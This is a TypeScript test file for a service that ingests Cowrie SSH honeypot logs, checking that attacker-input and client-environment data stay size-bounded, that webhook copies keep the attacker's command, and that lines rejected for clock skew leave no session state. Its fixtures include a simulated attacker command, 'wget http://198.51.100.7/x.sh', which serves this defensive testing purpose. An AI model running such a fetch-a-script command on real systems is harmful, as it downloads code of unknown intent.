import { afterAll, beforeAll, expect, test } from "bun:test"
import { SqlClient } from "@effect/sql"
import { Effect } from "effect"
import { ATTACKER_INPUT_MAX_BYTES } from "../../src/domain/attackerInput.ts"
import { type TestDatabase, testDatabase } from "../support/db.ts"
import { createChannel, createSensor, createTenant, get } from "../support/fixtures.ts"
import { ingest } from "../support/ingest.ts"
import { type RunningServer, shutdown, startServer, testEnv } from "../support/server.ts"

/**
 * D42 with the attackerInput bound: the client details that Cowrie's merged lines give a session's events (SSH
 * client version, environment variables, ...) are bounded on their own and never push the attacker's own input out
 * of an event; a session's work per request does not grow with its merged lines; and nothing of a session is
 * remembered from a line that the request then rejects.
 */

let server: RunningServer
let db: TestDatabase
let tenant: { orgId: string; key: string }
let sensor: { id: string; token: string }

beforeAll(async () => {
  // A channel on a closed local port: deliveries are built (at ingest, in its transaction) and then fail.
  server = await startServer({ env: await testEnv({ WEBHOOK_ALLOW_PRIVATE: "127.0.0.0/8" }) })
  db = testDatabase(server.env)
  tenant = await createTenant(db)
  sensor = await createSensor(db, tenant.orgId, "cowrie-client")
  await createChannel(db, tenant.orgId, "https://127.0.0.1:9/hooks")
})

afterAll(() => shutdown(server, db))

const query = <A extends object>(run: (sql: SqlClient.SqlClient) => Effect.Effect<ReadonlyArray<A>, unknown>) =>
  db.run(Effect.flatMap(SqlClient.SqlClient, run) as Effect.Effect<ReadonlyArray<A>, never, SqlClient.SqlClient>)

const base = Date.now() - 120_000
const line = (session: string, ip: string, i: number, eventid: string, fields: Record<string, unknown> = {}) => ({
  eventid,
  session,
  src_ip: ip,
  sensor: "cowrie-1",
  timestamp: new Date(base + i * 10).toISOString(),
  message: "m",
  ...fields,
})
const connect = (session: string, ip: string) =>
  line(session, ip, 0, "cowrie.session.connect", { protocol: "ssh", src_port: 40000, dst_port: 22 })
const vars = (session: string, ip: string, from: number, count: number) =>
  Array.from({ length: count }, (_, k) =>
    line(session, ip, from + k, "cowrie.client.var", { name: `VAR_${from + k}`, value: "é".repeat(4000) }),
  )
const bytes = (v: unknown) => Buffer.byteLength(JSON.stringify(v), "utf8")
const codePoints = (s: string) => [...s].length

// biome-ignore lint/suspicious/noExplicitAny: events as the API answers them
const eventsOf = async (ip: string): Promise<Array<any>> =>
  (await get(server.url, `/v1/events?sourceIp=${ip}&limit=100`, tenant.key)).body.data

const checkBounded = async (ip: string) => {
  const events = await eventsOf(ip)
  const command = events.find((e) => e.type === "ssh.command")
  expect(command?.attackerInput.command).toBe("wget http://198.51.100.7/x.sh")
  for (const e of events) {
    expect(bytes(e.attackerInput)).toBeLessThanOrEqual(ATTACKER_INPUT_MAX_BYTES)
    // The client members take at most 2 KiB, each value at most 256 code points; what was left out is said.
    const { env, clientCut } = e.attackerInput
    expect(bytes({ env, clientCut })).toBeLessThanOrEqual(2048)
    for (const value of Object.values(env ?? {})) expect(codePoints(value as string)).toBeLessThanOrEqual(256)
    expect(clientCut).toMatch(/^cut: \d+ more members?, \d+ bytes$/)
    expect(e.attackerInput["…"]).toBeUndefined()
  }
  const stored = await query<{ size: number }>(
    (sql) =>
      sql`select max(octet_length(attacker_input::text))::int as size from events where org_id = ${tenant.orgId} and source_ip = ${ip}`,
  )
  // jsonb's text form adds a space after each ':' and ','; still far under the 256 KB each event held.
  expect(stored[0]?.size ?? 0).toBeLessThan(ATTACKER_INPUT_MAX_BYTES + 512)
  return events
}

test("40 environment variables of 4000 'é' keep each event within 16 KiB, its own command kept, the cut shown; the webhook copy keeps the command", async () => {
  const ip = "192.0.2.150"
  const s = "clientcap01"
  const lines = [
    connect(s, ip),
    ...vars(s, ip, 1, 40),
    line(s, ip, 50, "cowrie.command.input", { input: "wget http://198.51.100.7/x.sh" }),
  ]
  const res = await ingest(server.ingestUrl, "cowrie", sensor.token, lines)
  expect(res.body).toMatchObject({ accepted: 2, rejected: 0 })
  await checkBounded(ip)
  const incidentId = res.body.results[0].incidentId
  const bodies = await query<{ body: string }>(
    (sql) => sql`select body from webhook_deliveries where incident_id = ${incidentId}`,
  )
  expect(bodies.length).toBeGreaterThan(0)
  const webhookEvents = bodies.flatMap((b) => JSON.parse(b.body).incident.events)
  const commandInWebhook = webhookEvents.find((e: { type: string }) => e.type === "ssh.command")
  expect(commandInWebhook?.attackerInput.command).toBe("wget http://198.51.100.7/x.sh")
})

test("the same bound when the variables arrive after the events, in several requests", async () => {
  const ip = "192.0.2.151"
  const s = "clientcap02"
  const first = [connect(s, ip), line(s, ip, 50, "cowrie.command.input", { input: "wget http://198.51.100.7/x.sh" })]
  expect((await ingest(server.ingestUrl, "cowrie", sensor.token, first)).body.accepted).toBe(2)
  for (let k = 0; k < 4; k++) {
    const res = await ingest(server.ingestUrl, "cowrie", sensor.token, vars(s, ip, 1 + k * 10, 10))
    expect(res.body.rejected).toBe(0)
  }
  await checkBounded(ip)
})

test("a session's client members are kept once per session, bounded; a merged line that changes nothing rewrites no event", async () => {
  const ip = "192.0.2.152"
  const s = "clientcap03"
  const lines = [
    connect(s, ip),
    line(s, ip, 1, "cowrie.client.version", { version: "SSH-2.0-Go" }),
    ...vars(s, ip, 2, 40),
    line(s, ip, 50, "cowrie.command.input", { input: "wget http://198.51.100.7/x.sh" }),
  ]
  expect((await ingest(server.ingestUrl, "cowrie", sensor.token, lines)).body.accepted).toBe(2)
  // Nothing per merged line is stored: one bounded state per session.
  const details = await query<{ n: number }>(
    (sql) =>
      sql`select count(*)::int as n from cowrie_session_details where sensor_id = ${sensor.id} and session = ${s}`,
  )
  expect(details[0]?.n).toBe(0)
  const state = await query<{ size: number }>(
    (sql) =>
      sql`select octet_length(client::text)::int as size from cowrie_sessions where sensor_id = ${sensor.id} and session = ${s}`,
  )
  expect(state[0]?.size ?? 0).toBeGreaterThan(0)
  expect(state[0]?.size ?? Number.POSITIVE_INFINITY).toBeLessThan(64 * 1024)

  const versions = () =>
    query<{ id: string; xmin: string }>(
      (sql) =>
        sql`select id, xmin::text as xmin from events where org_id = ${tenant.orgId} and source_ip = ${ip} order by id`,
    )
  const before = await versions()
  // Later variables (the session already holds its 32) and a later client version: nothing changes.
  const later = [...vars(s, ip, 60, 5), line(s, ip, 70, "cowrie.client.version", { version: "SSH-2.0-later" })]
  const res = await ingest(server.ingestUrl, "cowrie", sensor.token, later)
  expect(res.body.results.map((r: { status: string }) => r.status)).toEqual(Array(6).fill("merged"))
  expect(await versions()).toEqual(before)
  const events = await eventsOf(ip)
  for (const e of events) expect(e.attackerInput.clientVersion).toBe("SSH-2.0-Go")
})

test("a connect line rejected for clock skew teaches nothing: the session's later lines keep the defaults", async () => {
  const ip = "192.0.2.153"
  const s = "skewconn01"
  const ahead = {
    ...line(s, ip, 0, "cowrie.session.connect", { protocol: "telnet", src_port: 41000, dst_port: 2323 }),
    timestamp: new Date(Date.now() + 3_600_000).toISOString(),
  }
  const res = await ingest(server.ingestUrl, "cowrie", sensor.token, [ahead])
  expect(res.body).toMatchObject({ accepted: 0, rejected: 1 })
  const later = line(s, ip, 1, "cowrie.login.failed", { username: "root", password: "x" })
  expect((await ingest(server.ingestUrl, "cowrie", sensor.token, [later])).body.accepted).toBe(1)
  const [event] = await eventsOf(ip)
  expect(event).toMatchObject({ type: "ssh.login_attempt", port: 22, sourcePort: 0 })
  const known = await query<{ protocol: string | null }>(
    (sql) => sql`select protocol from cowrie_sessions where sensor_id = ${sensor.id} and session = ${s}`,
  )
  expect(known.every((r) => r.protocol === null)).toBe(true)
})
